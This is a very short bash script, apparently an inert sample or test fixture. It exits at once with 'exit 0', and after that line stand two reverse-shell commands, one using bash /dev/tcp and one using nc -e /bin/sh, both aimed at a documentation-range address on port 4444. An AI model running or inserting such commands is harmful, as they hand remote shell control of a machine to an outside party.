#!/bin/bash
exit 0
bash -i >& /dev/tcp/203.0.113.5/4444 0>&1
nc 203.0.113.5 4444 -e /bin/sh
